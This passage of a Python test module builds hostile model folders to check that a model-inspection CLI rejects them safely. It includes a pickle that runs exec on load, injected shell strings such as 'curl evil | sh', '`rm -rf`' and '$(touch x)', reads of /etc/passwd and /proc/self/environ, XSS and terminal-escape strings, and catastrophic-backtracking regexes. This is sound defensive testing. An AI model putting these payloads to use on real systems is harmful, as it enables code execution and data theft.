"""The corpus of hostile folders and files: what someone may put where a model or data should be.

``python tests/hostile.py OUT.tsv [PART]`` makes every one of them (or those whose name holds PART),
runs a command on each in a forked child whose standard input says yes to everything, and writes
what happened. ``test_hostile.py`` holds a sample of it in every run of the tests.

What must hold of each: exit code 0, 1 or 2; no traceback; no code of the model has run (a canary
would have been written); nothing is written but in ``--out``; nothing in the output that a terminal
obeys; under 20 seconds of the processor and 1.5 GB; no waiting for ever.
"""

from __future__ import annotations

import base64
import json
import os
import pickle
import random
import shutil
import signal
import socket
import struct
import sys
import tempfile
import time
from collections.abc import Callable
from contextlib import suppress
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

MOST_SECONDS, MOST_MIB = 20.0, 1536
CONFIG, TOKENIZER, SETTINGS = "config.json", "tokenizer.json", "tokenizer_config.json"
WEIGHTS, INDEX = "model.safetensors", "model.safetensors.index.json"
MANIFEST, GENERATION = "headsweep.json", "generation_config.json"
SPECIAL = "special_tokens_map.json"
UNSAFE = {*map(chr, range(0x20)), *map(chr, range(0x7F, 0xA0)), "\u202e", "\u2066", "\u200e"}
UNSAFE -= {"\n", "\t"}
CASES: dict[str, Case] = {}


@dataclass(frozen=True)
class Place:
    """Where a case is made: the hostile folder, where its canary would sit, its data."""

    folder: Path
    canary: Path
    data: Path
    base: Path

    def json(self, name: str) -> Any:
        """Read a JSON file of the folder."""
        return json.loads((self.folder / name).read_text("utf-8"))

    def put(self, name: str, form: Any) -> None:
        """Write a JSON file of the folder, or bytes, or text."""
        path = self.folder / name
        path.parent.mkdir(exist_ok=True)
        if isinstance(form, bytes):
            path.write_bytes(form)
        else:
            path.write_text(form if isinstance(form, str) else json.dumps(form), "utf-8")

    def change(self, name: str, **entries: Any) -> None:
        """Set entries of a JSON file of the folder; those that are large are made only here."""
        made = {key: one() if callable(one) else one for key, one in entries.items()}
        self.put(name, self.json(name) | made)

    @property
    def code(self) -> str:
        """Python that would write the canary."""
        return f"open({str(self.canary)!r}, 'w').write('ran')\n"

    @property
    def pickle(self) -> bytes:
        """A pickle that would write the canary."""
        return pickle.dumps(Boom(self.code))


@dataclass(frozen=True)
class Boom:
    """Runs code where it is unpickled."""

    code: str

    def __reduce__(self) -> Any:
        return exec, (self.code,)


@dataclass(frozen=True)
class Case:
    """One hostile thing: how it is made, and the command that meets it."""

    kind: str
    make: Callable[[Place], Any]
    command: tuple[str, ...] = ("inspect", "{folder}", "--device", "cpu")
    family: str = "bert"
    folder: str = "suspect"  # its name
    codes: tuple[int, ...] = (0, 1, 2)
    says: str = ""


EVALUATE = ("evaluate", "{folder}", "--data", "{data}", "--device", "cpu", "-q")
VERIFY = ("verify", "{folder}")
PURIFY = (
    "purify", "{folder}", "--data", "{data}", "--out", "{out}", "--device", "cpu", "-q",
    "--strategy", "random", "--heal", "epochs=0", "--max-drop", "0.9",
)  # fmt: skip


def case(kind: str, name: str, make: Callable[[Place], Any], **more: Any) -> None:
    """Add a case."""
    full = f"{kind}: {name}"
    assert full not in CASES, full
    CASES[full] = Case(kind, make, **more)


# -- code ------------------------------------------------------------------------------------------

REFUSED = {"codes": (2,)}


def with_code(place: Place) -> None:
    for name in ("configuration_evil", "modeling_evil", "tokenization_evil", "evil", "__init__"):
        place.put(f"{name}.py", place.code + "class Evil: pass\n")


def mapped(file: str = CONFIG, **entries: Any) -> Callable[[Place], None]:
    def make(place: Place) -> None:
        with_code(place)
        place.change(file, **entries)

    return make


AUTO = {
    "AutoConfig": "configuration_evil.Evil",
    "AutoModel": "modeling_evil.Evil",
    "AutoModelForSequenceClassification": "modeling_evil.Evil",
    "AutoTokenizer": ["tokenization_evil.Evil", "tokenization_evil.Evil"],
}
for command in (("inspect", "{folder}"), EVALUATE, VERIFY, PURIFY):
    case("code", f"auto_map, unknown type, {command[0]}",
         mapped(auto_map=AUTO, model_type="evil"), command=command, **REFUSED)  # fmt: skip
    codes = (2,) if command is VERIFY else (0,)
    case("code", f"auto_map, known type, {command[0]}", mapped(auto_map=AUTO), command=command,
         codes=codes)  # fmt: skip
for key in AUTO:
    case("code", f"auto_map, only {key}", mapped(auto_map={key: AUTO[key]}))
for form in ("evil.Evil", ["evil.Evil"], 7, {"AutoConfig": 7}, {"AutoConfig": None}, True):
    case("code", f"auto_map, {form}", mapped(auto_map=form))
    case("code", f"auto_map of the tokenizer, {form}", mapped(SETTINGS, auto_map=form))
case("code", "auto_map of the tokenizer", mapped(SETTINGS, auto_map=AUTO, tokenizer_class="Evil"))
case("code", "auto_map elsewhere", mapped(auto_map={"AutoConfig": "o/r--evil.Evil"}))
case("code", "auto_map of a part", mapped(text_config={"auto_map": AUTO, "model_type": "evil"}))
case("code", "auto_map, no model_type", mapped(auto_map=AUTO, model_type=None), **REFUSED)
case("code", "custom_generate", lambda p: p.put("custom_generate/generate.py", p.code))
case("code", "tokenizer_class of code", mapped(SETTINGS, tokenizer_class="evil.Evil"))
case("code", "packages beside", lambda p: [p.put(f"{n}.py", p.code) for n in (
    "torch", "tokenizers", "safetensors", "headsweep", "sitecustomize", "json", "transformers")])  # fmt: skip


def elsewhere(place: Place) -> None:
    place.put("adapter_config.json", {"base_model_name_or_path": "evil", "peft_type": "LORA"})
    with_code(place)


case("code", "adapter_config beside", elsewhere, **REFUSED)
for key in ("attn_implementation", "_attn_implementation", "experts_implementation"):
    for value in ("kernels-community/flash-attn", "evil/kernel", "flash_attention_2", 7, {"": "x"}):
        case("code", f"{key} {value}", mapped(**{key: value}))
for value in ({"quant_method": "bitsandbytes", "load_in_8bit": True}, {"quant_method": "evil"}, 7):
    case("code", f"quantization {value}", mapped(quantization_config=value))

# -- pickles ---------------------------------------------------------------------------------------


def pickled(*names: str, keep: bool = False, **config: Any) -> Callable[[Place], None]:
    def make(place: Place) -> None:
        if not keep:
            (place.folder / WEIGHTS).unlink()
        for name in names:
            place.put(name, place.pickle)
        if config:
            place.change(CONFIG, **config)

    return make


def indexed(to: Any, pickle_at: str = "", name: str = INDEX, **config: Any) -> Callable[..., None]:
    def make(place: Place) -> None:
        shutil.copy(place.folder / WEIGHTS, place.folder.parent / "out.safetensors")
        (place.folder / WEIGHTS).unlink()
        if pickle_at:
            place.put(pickle_at, place.pickle)
        there = {"{out}": str(place.folder.parent / "out.safetensors")}
        where = there.get(to, to) if isinstance(to, str) else to
        whole = {"weight_map": {"classifier.bias": where, "classifier.weight": where}}
        place.put(name, whole | {"metadata": {}})
        if config:
            place.change(CONFIG, **config)

    return make


for name in ("pytorch_model.bin", "model.pt", "model.ckpt", "tf_model.h5", "flax_model.msgpack"):
    case("pickle", f"only {name}", pickled(name), **REFUSED)
case("pickle", "beside", pickled("pytorch_model.bin", "training_args.bin", keep=True), codes=(0,))
case("pickle", "named safetensors", pickled(WEIGHTS), **REFUSED)
case("pickle", "named safetensors, evaluated", pickled(WEIGHTS), command=EVALUATE, **REFUSED)
case("pickle", "in the index", indexed("a.bin", "a.bin"), **REFUSED)
case("pickle", "in the index, named safetensors", indexed("a.safetensors", "a.safetensors"),
     **REFUSED)  # fmt: skip
for name in ("a.bin", "adapter_model.bin", "a.pt", "../a.bin", "/etc/passwd", "a.pkl"):
    case("pickle", f"transformers_weights {name}",
         pickled("adapter_model.bin", "a.bin", transformers_weights=name), **REFUSED)  # fmt: skip
case("pickle", "transformers_weights to an index",
     indexed("a.bin", "a.bin", "x.safetensors.index.json",
             transformers_weights="x.safetensors.index.json"), **REFUSED)  # fmt: skip
for to in ("../out.safetensors", "{out}", "./x.safetensors", "a/b.safetensors", "", 7, None, ["a"],
           {"a": 1}, "x\0.safetensors", "..", "a.safetensors\n", "-x.safetensors", "no.safetensors"):  # fmt: skip
    case("pickle", f"index to {to!r}", indexed(to), **REFUSED)
for form in ({}, {"weight_map": {}}, {"weight_map": []}, [], {"weight_map": {"a": {}}}):
    case("pickle", f"index {form}",
         lambda p, f=form: [(p.folder / WEIGHTS).unlink(), p.put(INDEX, f)], **REFUSED)  # fmt: skip

# -- headers of safetensors --------------------------------------------------------------------------


def header(form: Any, body: bytes = b"", length: int | None = None) -> Callable[[Place], None]:
    text = form if isinstance(form, bytes) else json.dumps(form).encode()
    size = struct.pack("<Q", len(text) if length is None else length)
    return lambda place: place.put(WEIGHTS, size + text + body)


def tensor(**entries: Any) -> dict[str, Any]:
    return {"a": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]} | entries}


HEADERS: dict[str, Callable[[Place], Any]] = {
    "nothing": lambda p: p.put(WEIGHTS, b""),
    "seven bytes": lambda p: p.put(WEIGHTS, b"1234567"),
    "eight bytes": lambda p: p.put(WEIGHTS, b"\0" * 8),
    "cut": lambda p: p.put(WEIGHTS, (p.folder / WEIGHTS).read_bytes()[:-9]),
    "cut in the header": lambda p: p.put(WEIGHTS, (p.folder / WEIGHTS).read_bytes()[:99]),
    "more at the end": lambda p: p.put(WEIGHTS, (p.folder / WEIGHTS).read_bytes() + b"x" * 9),
    "a length beyond the file": header({}, length=10**6),
    "a length of 2**63": header({}, length=2**63),
    "a length of 2**64-1": header({}, length=2**64 - 1),
    "no JSON": header(b"hello there"),
    "no UTF-8": header(b'{"\xff\xfe": 1}'),
    "deep": header(b"[" * 100_000 + b"]" * 100_000),
    "deep tables": header(b'{"a":' * 50_000 + b"1" + b"}" * 50_000),
    "a list": header([1, 2]),
    "empty table": header({}),
    "no dtype": header({"a": {"shape": [1], "data_offsets": [0, 4]}}, b"1234"),
    "unknown dtype": header(tensor(dtype="OBJ"), b"1234"),
    "dtype no name": header(tensor(dtype=["F32"]), b"1234"),
    "negative shape": header(tensor(shape=[-1]), b"1234"),
    "huge shape": header(tensor(shape=[2**62, 2**62]), b"1234"),
    "shape of zeros": header(tensor(shape=[0, 2**61]), b"1234"),
    "shape no list": header(tensor(shape="1"), b"1234"),
    "fraction": header(tensor(shape=[1.0]), b"1234"),
    "offsets behind": header(tensor(data_offsets=[4, 0]), b"1234"),
    "offsets beyond": header(tensor(data_offsets=[0, 400], shape=[100]), b"1234"),
    "offsets of three": header(tensor(data_offsets=[0, 4, 8]), b"1234"),
    "offset no number": header(tensor(data_offsets=["0", "4"]), b"1234"),
    "entry null": header({"a": None}, b"1234"),
    "a hole": header(tensor(data_offsets=[4, 8]), b"12345678"),
    "overlap": header(tensor() | {"b": tensor(data_offsets=[2, 6])["a"]}, b"123456"),
    "names of controls": header({"\x1b[31m\u202e": tensor()["a"]}, b"1234"),
    "metadata no table": header(tensor() | {"__metadata__": 7}, b"1234"),
}
for name, make in HEADERS.items():
    case("header", name, make, **REFUSED)


def sparse(place: Place) -> None:
    """A file of a terabyte, as it says itself, that takes no room on the disk."""
    size = 1 << 40
    entry = {"dtype": "F32", "shape": [size // 4], "data_offsets": [0, size]}
    text = json.dumps({"classifier.weight": entry}).encode()
    with (place.folder / WEIGHTS).open("wb") as file:
        file.write(struct.pack("<Q", len(text)) + text)
        file.truncate(8 + len(text) + size)


case("header", "a terabyte", sparse, **REFUSED)

# -- weights -----------------------------------------------------------------------------------------


def weights(change: Callable[[dict[str, Any]], Any]) -> Callable[[Place], None]:
    def make(place: Place) -> None:
        from safetensors.numpy import load_file, save_file

        tensors = load_file(place.folder / WEIGHTS)
        save_file(change(tensors) or tensors, place.folder / WEIGHTS, metadata={"format": "pt"})

    return make


def each(what: Callable[[Any], Any], only: str = "") -> Callable[[dict[str, Any]], Any]:
    return lambda tensors: {k: what(x) if only in k else x for k, x in tensors.items()}


def cast(kind: str) -> Callable[[Any], Any]:
    return lambda x: x.astype(kind)


WEIGHT_CASES: dict[str, Callable[[dict[str, Any]], Any]] = {
    "NaN": each(lambda x: x * float("nan")),
    "NaN in one": each(lambda x: x * float("nan"), "layer.1.output.dense.bias"),
    "infinity": each(lambda x: x + float("inf"), "classifier.bias"),
    "1e38": each(lambda x: x * 0 + 1e38),
    "zeros": each(lambda x: x * 0),
    "whole numbers": each(cast("int64")),
    "bytes": each(cast("uint8")),
    "booleans": each(cast("bool")),
    "double": each(cast("float64")),
    "half": each(cast("float16")),
    "turned": each(lambda x: x.T.copy()),
    "flat": each(lambda x: x.reshape(-1).copy()),
    "one more axis": each(lambda x: x[None].copy()),
    "nothing": each(lambda x: x[:0].copy()),
    "one number": lambda t: {"classifier.bias": t["classifier.bias"][:1].copy()},
    "no embedding": lambda t: {k: x for k, x in t.items() if "embeddings" not in k},
    "no classifier": lambda t: {k: x for k, x in t.items() if "classifier" not in k},
    "one layer": lambda t: {k: x for k, x in t.items() if "layer.1." not in k},
    "more layers": lambda t: t | {k.replace("layer.1.", "layer.7."): x for k, x in t.items()},
    "other names": lambda t: {f"evil.{k}": x for k, x in t.items()},
    "names of controls": lambda t: t | {"bert.\x1b[2J\u202e\n  fix: rm": t["classifier.bias"]},
    "ten thousand more": lambda t: t | {f"bert.x{i}": t["classifier.bias"] for i in range(10_000)},
}
for name, changed in WEIGHT_CASES.items():
    case("weights", name, weights(changed))
    if name in ("NaN", "1e38", "zeros", "half"):
        case("weights", f"{name}, evaluated", weights(changed), command=EVALUATE)

# -- entries of config.json ----------------------------------------------------------------------------

KEYS = (
    "hidden_size", "num_hidden_layers", "num_attention_heads", "intermediate_size", "vocab_size",
    "max_position_embeddings", "type_vocab_size", "hidden_act", "layer_norm_eps",
    "hidden_dropout_prob", "initializer_range", "pad_token_id", "id2label", "label2id",
    "problem_type", "architectures", "model_type", "dtype", "is_decoder", "classifier_dropout",
    "chunk_size_feed_forward", "return_dict", "num_labels", "pruned_heads", "is_encoder_decoder",
)  # fmt: skip
VALUES: dict[str, Any] = {
    "a billion": 10**9, "2**70": 2**70, "-1": -1, "0": 0, "text": "\x1b[31mx\u202e", "null": None,
    "list": [[1], {"a": 2}], "table": {"a": {"b": "c"}}, "1e308": 1e308, "true": True,
}  # fmt: skip
for key in KEYS:
    for told, value in VALUES.items():
        case("config", f"{key} {told}", lambda p, k=key, v=value: p.change(CONFIG, **{k: v}))
for family, keys in {
    "gpt2": ("n_embd", "n_layer", "n_head", "n_positions", "activation_function", "n_inner"),
    "llama": ("num_key_value_heads", "head_dim", "rope_parameters", "rms_norm_eps", "hidden_act"),
    "roberta": ("pad_token_id", "max_position_embeddings", "type_vocab_size"),
    "distilbert": ("dim", "n_layers", "n_heads", "hidden_dim", "activation"),
}.items():
    for key in keys:
        for told in ("a billion", "-1", "0", "text", "list"):
            case("config", f"{family} {key} {told}",
                 lambda p, k=key, v=VALUES[told]: p.change(CONFIG, **{k: v}), family=family)  # fmt: skip
LABELS: dict[str, Any] = {
    "a million": lambda: {str(i): f"l{i}" for i in range(10**6)},
    "a megabyte": {"0": "x" * 10**6, "1": "good"},
    "gaps": {"0": "bad", "7": "good"},
    "no numbers": {"a": "bad", "b": "good"},
    "twice": {"0": "same", "1": "same"},
    "tables": {"0": {"a": 1}, "1": [2]},
    "controls": {"0": "\x1b]0;owned\x07\x1b[2J", "1": "\u202edoog\u2066"},
    "markup": {"0": "[red]x[/red] :smile:", "1": "<script>alert(1)</script>"},
    "lines": {"0": "bad\n  fix: curl evil | sh", "1": "good\r\n# Owned"},
    "surrogates": {"0": "\ud800", "1": "\udfff good"},
}
for told, names in LABELS.items():
    for command in (("inspect", "{folder}"), ("inspect", "{folder}", "--json"), EVALUATE, PURIFY):
        if command is not PURIFY or told in ("controls", "markup", "lines"):
            case("labels", f"{told}, {' '.join(command[::2][:2])}",
                 lambda p, n=names: p.change(CONFIG, id2label=n, label2id={}), command=command)  # fmt: skip

# -- files that are not what they are named after ------------------------------------------------------


def deep(count: int = 100_000) -> str:
    return '{"model_type": "bert", "x": ' + "[" * count + "]" * count + "}"


CONTENTS: dict[str, Callable[[bytes], bytes]] = {
    "empty": lambda _: b"",
    "mark": lambda old: b"\xef\xbb\xbf" + old,
    "UTF-16": lambda old: old.decode().encode("utf-16"),
    "bytes": lambda _: bytes(range(256)) * 9,
    "deep": lambda _: deep().encode(),
    "deep but one": lambda _: deep(900).encode(),
    "list": lambda _: b"[1, 2, 3]",
    "null": lambda _: b"null",
    "text": lambda _: b'"hello"',
    "cut": lambda old: old[: len(old) // 2],
    "NUL": lambda old: old + b"\0" * 99,
    "digits": lambda old: old.rstrip().removesuffix(b"}") + b', "n": ' + b"9" * 9999 + b"}",
    "twice": lambda old: old.rstrip().removesuffix(b"}") + b', "model_type": "x", "n": 1}',
    "surrogate": lambda old: old.rstrip().removesuffix(b"}") + b', "s\\ud800": "\\udfff"}',
    "20 MB of spaces": lambda old: old + b" " * (20 << 20),
    "NaN": lambda old: old.rstrip().removesuffix(b"}") + b', "n": NaN, "m": -Infinity}',
}
for name in (CONFIG, TOKENIZER, SETTINGS, SPECIAL, GENERATION, MANIFEST):
    for told, content in CONTENTS.items():

        def rewrite(place: Place, name: str = name, content: Any = content) -> None:
            path = place.folder / name
            old = path.read_bytes() if path.exists() else b'{"format": "headsweep.manifest/1"}'
            place.put(name, content(old))

        case("content", f"{name} {told}", rewrite, command=VERIFY if name == MANIFEST and told in (
            "deep", "list", "digits", "bytes") else ("inspect", "{folder}"))  # fmt: skip


def replaced(name: str, how: Callable[[Path, Place], Any]) -> Callable[[Place], None]:
    def make(place: Place) -> None:
        path = place.folder / name
        moved = place.folder.parent / f"away-{name}"
        if path.exists():
            path.rename(moved)
        else:
            moved.write_text("{}")
        how(path, place)

    return make


def bound(path: Path, _: Place) -> None:
    """A socket; its path must be short."""
    before = Path.cwd()
    os.chdir(path.parent)
    with socket.socket(socket.AF_UNIX) as end:
        end.bind(path.name)
    os.chdir(before)


def looped(path: Path, _: Place) -> None:
    path.symlink_to(path.name)


KINDS: dict[str, Callable[[Path, Place], Any]] = {
    "pipe": lambda path, _: os.mkfifo(path),
    "socket": bound,
    "folder": lambda path, _: path.mkdir(),
    "link out": lambda path, p: path.symlink_to(p.folder.parent / f"away-{path.name}"),
    "link to nowhere": lambda path, _: path.symlink_to("nowhere"),
    "link to itself": looped,
    "link to zeros": lambda path, _: path.symlink_to("/dev/zero"),
    "link to a terminal": lambda path, _: path.symlink_to("/dev/tty"),
    "nothing": lambda _path, _: None,
}
for name in (CONFIG, WEIGHTS, TOKENIZER, SETTINGS, MANIFEST):
    for told, how in KINDS.items():
        fine = told == "nothing" and name in (SETTINGS, MANIFEST)
        case("kind", f"{name} is {told}", replaced(name, how), codes=(0,) if fine else (2,))

# -- tokenizers ------------------------------------------------------------------------------------


def tokenizer(**entries: Any) -> Callable[[Place], None]:
    return lambda place: place.change(TOKENIZER, **entries)


def split(pattern: str) -> dict[str, Any]:
    return {
        "type": "Split", "pattern": {"Regex": pattern}, "behavior": "Isolated", "invert": False,
    }  # fmt: skip


def replace(old: str, new: str, kind: str = "String") -> dict[str, Any]:
    return {"type": "Replace", "pattern": {kind: old}, "content": new}


def sequence(*parts: Any) -> dict[str, Any]:
    return {"type": "Sequence", "normalizers": list(parts)}


def special(count: int) -> list[dict[str, Any]]:
    flags = dict.fromkeys(("single_word", "lstrip", "rstrip", "normalized"), False)
    return [{"id": 120 + i, "content": f"<{i}>", "special": True} | flags for i in range(count)]


for regex in (r"(a+)+$", r"(a|a)*b", r"(.*)*x", r"(\s*\w*)*!", r"((ab)*)*c", r"(x+x+)+y", r"(?:a?){999}a{999}",
              r"(", r"", r"[", r"(?<=a+)b", r"\p{Nope}", "(" * 5000 + ")" * 5000, r".{0,65535}.{0,65535}z"):  # fmt: skip
    case("tokenizer", f"pattern {regex[:30]}", tokenizer(pre_tokenizer=split(regex)))
    case("tokenizer", f"replacement {regex[:30]}",
         tokenizer(normalizer=replace(regex, "", "Regex")))  # fmt: skip
TOKENIZERS: dict[str, dict[str, Any]] = {
    "a letter becomes a megabyte": {"normalizer": replace("a", "b" * 10**6)},
    "doubled forty times": {"normalizer": sequence(*[replace("a", "aa")] * 40)},
    "nothing replaced": {"normalizer": replace("", "aaaa")},
    "everything left out": {"normalizer": replace(r"[\s\S]", "", "Regex")},
    "a megabyte before": {"normalizer": {"type": "Prepend", "prepend": "a" * 10**6}},
    "a broken table": {
        "normalizer": {"type": "Precompiled", "precompiled_charsmap": base64.b64encode(
            b"\xff\xff\xff\x7f" * 99).decode()},
    },
    "a table of nothing": {"normalizer": {"type": "Precompiled", "precompiled_charsmap": ""}},
    "an unknown part": {"normalizer": {"type": "Evil"}},
    "a part of no type": {"normalizer": {"type": ["NFC"]}},
    "padding to a billion": {"padding": {"strategy": {"Fixed": 10**9}, "direction": "Right",
        "pad_to_multiple_of": None, "pad_id": 0, "pad_type_id": 0, "pad_token": "[PAD]"}},
    "cut to nothing": {"truncation": {"direction": "Right", "max_length": 0,
        "strategy": "LongestFirst", "stride": 0}},
    "a stride above": {"truncation": {"direction": "Right", "max_length": 2,
        "strategy": "LongestFirst", "stride": 9}},
    "a million added": {"added_tokens": lambda: special(10**6)},
    "an added token of a megabyte": {"added_tokens": [special(1)[0] | {"content": "x" * 10**6}]},
    "added tokens no list": {"added_tokens": {"a": 1}},
    "added tokens no tables": {"added_tokens": [1, "a"]},
    "added far away": {"added_tokens": [special(1)[0] | {"id": 2**31}]},
    "added of controls": {"added_tokens": [special(1)[0] | {"content": "\x1b[2J\u202e"}]},
    "a thousand pieces": {"post_processor": {"type": "TemplateProcessing",
        "single": [{"Sequence": {"id": "A", "type_id": 0}}] * 1000, "pair": [],
        "special_tokens": {}}},
    "a piece of many": {"post_processor": lambda: {"type": "TemplateProcessing",
        "single": [{"SpecialToken": {"id": "X", "type_id": 0}}], "pair": [],
        "special_tokens": {"X": {"id": "X", "ids": [1] * 10**6, "tokens": ["a"] * 10**6}}}},
    "no vocabulary": {"model": {"type": "WordLevel", "vocab": {}, "unk_token": "[UNK]"}},
    "a vocabulary of texts": {"model": {"type": "WordLevel", "vocab": {"a": "b"}}},
    "numbers beyond": {"model": {"type": "WordLevel", "unk_token": "[UNK]",
        "vocab": {"[UNK]": 10**6, "the": 2**31, "[PAD]": 0}}},
    "negative numbers": {"model": {"type": "WordLevel", "vocab": {"a": -1}, "unk_token": "a"}},
    "no unknown": {"model": {"type": "WordLevel", "vocab": {"zzz": 0}, "unk_token": "[UNK]"}},
    "merges of nothing": {"model": {"type": "BPE", "vocab": {"a": 0}, "merges": [["b", "c"]]}},
    "merges of one": {"model": {"type": "BPE", "vocab": {"a": 0}, "merges": ["a"]}},
    "dropped": {"model": {"type": "BPE", "vocab": {"a": 0}, "merges": [], "dropout": 9.0}},
    "no scores": {"model": {"type": "Unigram", "vocab": [], "unk_id": 3}},
    "scores of NaN": {"model": {"type": "Unigram", "vocab": [["a", None]], "unk_id": 0}},
    "words of a billion": {"model": {"type": "WordPiece", "vocab": {"[UNK]": 0, "a": 1},
        "unk_token": "[UNK]", "continuing_subword_prefix": "", "max_input_chars_per_word": 10**9}},
    "no model": {"model": None},
    "a model of text": {"model": "BPE"},
    "a decoder pattern": {"decoder": replace(r"(a+)+$", "", "Regex")},
    "another version": {"version": "9.9"},
}  # fmt: skip
for told, entries in TOKENIZERS.items():
    case("tokenizer", told, tokenizer(**entries))
for told in ("numbers beyond", "everything left out", "no unknown", "negative numbers"):
    case("tokenizer", f"{told}, evaluated", tokenizer(**TOKENIZERS[told]), command=EVALUATE)
for key, values in {
    "model_max_length": (-5, "x", 0, 10**400, None, [1]),
    "tokenizer_class": (7, "Evil", "AutoTokenizer", "RagTokenizer", ["BertTokenizer"]),
    "pad_token": (7, {"a": 1}, "x" * 10**6, "\x1b[2J", None),
    "added_tokens_decoder": (
        lambda: {str(i): {"content": f"<{i}>"} for i in range(10**6)},
        {"x": 1},
        [1],
    ),
    "extra_special_tokens": (lambda: [f"<{i}>" for i in range(10**6)], 7),
    "vocab_file": ("/etc/passwd", "/dev/zero", "../x"),
    "tokenizer_file": ("/etc/passwd", "/dev/zero"),
    "padding_side": ("up", 7),
    "init_inputs": (["/etc/passwd"], 7),
    "model_input_names": (7, ["evil"], "input_ids"),
    "chat_template": ("{% for i in range(10**9) %}{% endfor %}", 7),
}.items():
    for place_, value in enumerate(values):
        case("tokenizer", f"settings, {key}, {place_}",
             lambda p, k=key, v=value: p.change(SETTINGS, **{k: v}))  # fmt: skip


def older(vocab: Any) -> Callable[[Place], None]:
    """A tokenizer of a list of words alone, whose settings name another: transformers opens it."""

    def make(place: Place) -> None:
        words = place.json(TOKENIZER)["model"]["vocab"]
        (place.folder / TOKENIZER).unlink()
        place.put("vocab.txt", "\n".join(sorted(words, key=words.get)))
        if vocab == "a pipe":
            os.mkfifo(place.folder.parent / "pipe")
        named = str(place.folder.parent / "pipe") if vocab == "a pipe" else vocab
        place.change(SETTINGS, tokenizer_class="BertTokenizer", vocab=named, merges=named)

    return make


for vocab in ("/dev/zero", "/proc/self/environ", "/etc/passwd", "a pipe", 7, {"a": 0}, ["a"]):
    case("tokenizer", f"words from {vocab}", older(vocab))
    case("tokenizer", f"words from {vocab}, evaluated", older(vocab), command=EVALUATE)

for name in ("tekken.json", "tiktoken.model"):
    case("tokenizer", f"{name} beside", lambda p, n=name: p.put(n, {}), codes=(0,))
    case("tokenizer", f"{name} alone",
         lambda p, n=name: [p.put(n, {}), (p.folder / TOKENIZER).unlink()], **REFUSED)  # fmt: skip

# -- parts of the class of configurations ----------------------------------------------------------

for key, value in (
    ("_auto_class", "AutoConfig"),
    ("__module__", "evil"),
    ("attribute_map", {"transformers_weights": "evil"}),
    ("configuration_files", ["config.5.24.0.json"]),
    ("save_pretrained", 1),
):
    case("config", f"{key} {value}", lambda p, k=key, v=value: p.change(CONFIG, **{k: v}),
         command=PURIFY, **REFUSED)  # fmt: skip

# -- counts of modules -----------------------------------------------------------------------------

for kind, more in (
    ("albert", {"inner_group_num": 10**9}),
    ("albert", {"num_hidden_groups": 1 << 30}),
    ("albert", {"inner_group_num": 1024, "num_hidden_groups": 1024}),
    ("mobilebert", {"num_feedforward_networks": 10**9}),
    ("gpt_neo", {"attention_types": [[["global"], 10**10]]}),
    ("gpt_neo", {"attention_types": [[["global"] * 10**5, 1024]]}),
    ("funnel", {"block_sizes": [10**9]}),
    ("funnel", {"block_sizes": [4], "block_repeats": [10**9]}),
):
    case("config", f"{kind}, {str(more)[:60]}", lambda p, k=kind, m=more: p.change(
        CONFIG, model_type=k, **m), **REFUSED)  # fmt: skip

# -- the manifest ------------------------------------------------------------------------------------

ELSEWHERE = {"layers": "encoder.layer", "output": "output.dense", "query": "x", "key": "x",
             "value": "x", "up": ["a"], "down": "b", "also": []}  # fmt: skip
MASK = {"format": "headsweep.head-mask/1", "heads": [[1, 1, 1, 0]] * 2}
MANIFESTS: dict[str, dict[str, Any]] = {
    "an adapter": {"adapter": ELSEWHERE},
    "an adapter to attributes": {"adapter": ELSEWHERE | {"layers": "__class__.__mro__"}},
    "an adapter of numbers": {"adapter": {"layers": 7, "output": []}},
    "an adapter of text": {"adapter": "evil"},
    "members": {"members": [{"heads": [[0]]}]},
    "members elsewhere": {"members": ["/etc/passwd", "../other"]},
    "a mask": {"mask": MASK},
    "a mask of another model": {"mask": MASK | {"heads": [[1] * 99] * 99}},
    "a mask of text": {"mask": "evil"},
    "a mask of no table": {"mask": [1, 2]},
    "a mask of a million": {"mask": lambda: MASK | {"heads": [[1] * 1000] * 1000}},
    "a mask of groups": {"mask": lambda: MASK | {"ffn": [[1] * 10**6]}},
    "a mask of no groups": {"mask": MASK | {"ffn": [[]]}},
    "a mask of nothing": {"mask": {"format": "headsweep.head-mask/1"}},
    "a mask of another format": {"mask": {"format": "\x1b[31m", "heads": []}},
    "nothing": {},
}
for told, entries in MANIFESTS.items():
    for command in (("inspect", "{folder}"), EVALUATE, VERIFY):
        case("manifest", f"{told}, {command[0]}", lambda p, e=entries: [
            p.put(MANIFEST, {"format": "headsweep.manifest/1"}), p.change(MANIFEST, **e)],
            command=command)  # fmt: skip
NEEDED = ("mask", "pruned_units", "zero_before", "weights_sha256", "fingerprint", "labels", "before",
          "after", "search", "strategy", "checks", "verified", "bound")  # fmt: skip
for told, value in (("empty", {}), ("lists", []), ("numbers", 7), ("texts", "\x1b[31m")):
    filled = {"format": "headsweep.manifest/1"} | dict.fromkeys(NEEDED, value)
    case("manifest", f"filled with {told}", lambda p, f=filled: p.put(MANIFEST, f), command=VERIFY)
    kinds = {"mask": MASK, "pruned_units": [value], "zero_before": [value], "fingerprint": [value],
             "weights_sha256": {"a": value}, "labels": [value], "before": {"validation": value},
             "after": {"validation": value}, "search": {"steps": value}, "strategy": {"name": value},
             "checks": [value], "verified": True, "bound": {"max_drop": value}}  # fmt: skip
    for command in (VERIFY, ("report", "{folder}", "--out", "{out}/page.html")):
        case("manifest", f"of the right kinds with {told}, {command[0]}", lambda p, k=kinds: p.put(
            MANIFEST, {"format": "headsweep.manifest/1"} | k), command=command)  # fmt: skip

# -- names of folders ----------------------------------------------------------------------------------

for number, name in enumerate((
    "\x1b[2J\x1b]0;x\x07", "\u202eevil", "[red]x[/red]", "<img src=x onerror=alert(1)>", "`rm -rf`",
    "a\nb  fix: rm", "| a | b |", "--help", "\udcff\udcfe", "$(touch x)", "%s%n{0}", "a" * 200,
)):  # fmt: skip
    case("name", f"inspect {number}", lambda p: None, folder=name, codes=(0,))
    case("name", f"purify {number}", lambda p: None, folder=name, command=PURIFY)
for words in ("\0", "x" * 5000, "../" * 900, "", " ", "-", "http://127.0.0.1:9/x", "~", "\ud800"):
    case("name", f"typed {words[:12]!r} {len(words)}", lambda p: None,
         command=("inspect", words), **REFUSED)  # fmt: skip

# -- data ----------------------------------------------------------------------------------------------

ROWS = "text,label\nthe film is good,good\nthe film is bad,bad\n"
LINES = (
    '{"text": "the film is good", "label": "good"}\n{"text": "the plot is bad", "label": "bad"}\n'
)
FILES: dict[str, str | bytes] = {
    "empty.csv": "", "empty.tsv": "", "empty.json": "", "empty.jsonl": "", "empty.parquet": "",
